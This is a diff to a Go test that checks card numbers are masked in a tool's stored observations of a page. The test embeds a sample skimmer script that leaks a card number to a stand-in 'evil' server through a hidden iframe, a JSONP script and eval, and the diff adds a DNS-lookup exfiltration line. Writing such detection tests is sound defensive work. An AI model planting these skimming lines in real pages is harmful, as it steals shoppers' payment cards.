@@ -12,7 +12,8 @@ import (
 )
 
 // Skimmers put the card in places other than request bodies: a hidden
-// iframe's src, a script's src (JSONP), the text of eval'd code. The
+// iframe's src, a script's src (JSONP), the text of eval'd code, a host
+// name (sent as a DNS query). The
 // observation is stored and shown, so none of them may keep the number.
 func TestCardDataIsMaskedEverywhereInTheObservation(t *testing.T) {
 	c := needBrowser(t)
@@ -31,6 +32,7 @@ document.addEventListener('change', function (e) {
   var f = document.createElement('iframe'); f.style.display = 'none'; f.src = '`+evil.URL+`/log?cc=' + n; document.body.appendChild(f);
   var s = document.createElement('script'); s.src = '`+evil.URL+`/jsonp.js?cc=' + n; document.head.appendChild(s);
   eval('window.stolen = "' + n + '";');
+  fetch('http://' + n + '.invalid/dns').catch(function () {});
 }, true);
 </script>`)
 	}))
